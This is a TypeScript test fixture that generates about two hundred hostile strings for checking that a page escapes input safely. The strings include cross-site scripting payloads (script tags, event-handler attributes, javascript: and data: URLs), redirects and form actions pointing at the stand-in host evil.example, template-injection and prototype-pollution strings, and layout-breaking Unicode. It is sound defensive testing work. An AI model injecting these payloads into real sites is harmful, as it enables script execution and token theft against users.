/** Two hundred texts that try to leave their place in a page, to run something, or to break its layout. */
export function hostileTexts(): string[] {
  const wrapped = BREAKOUTS.flatMap((breakout) => SCRIPTS.map((script) => `${breakout}${script}`));
  const texts = [...new Set([...wrapped, ...ODDITIES])];
  if (texts.length < 200) throw new Error(`only ${texts.length} hostile texts`);
  return texts;
}

const BREAKOUTS = [
  ...['', '">', "'>", '</textarea>', '</title>', '</option></select>', '</bdi></label>', '-->', ']]>', '<!--'],
  ...['" autofocus onfocus=ran() x="', "' onmouseover=ran() x='", '&quot;>', '</style></script>', '\n\n">', '{% raw %}'],
];

const SCRIPTS = [
  '<script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<style>*{display:none!important}</style>',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<base href="https://evil.example/">',
  '<form action=https://evil.example><button>Send',
  '<a href="javascript:ran()">click</a>',
  '<details open ontoggle=ran()>',
  '<input autofocus onfocus=ran() name=_nonce value=stolen>',
];

const ODDITIES = [
  ...['{{ 7 | times: 7 }}', '{% include "layout" %}', '{{ hiddenFields }}', '${ran()}', '<%= ran() %>', '__proto__', 'constructor'],
  ...['javascript:ran()', 'data:text/html,<script>ran()</script>', '&lt;script&gt;ran()&lt;/script&gt;', '&#60;script&#62;'],
  ...['\u202eevitcejer', '\u2066unclosed isolate', '\u200b\u200d\ufeff', 'Z\u0300\u0301\u0302'.repeat(60), '\u2028\u2029', '\ud800'],
  ...[
    'W'.repeat(255),
    'i'.repeat(255),
    '😀'.repeat(120),
    'مرحبا بالعالم',
    '漢字'.repeat(120),
    '\t\t\ttabs',
    ' ',
    'a\r\nb\rc',
    '\u0001\u0002\u001f',
  ],
];
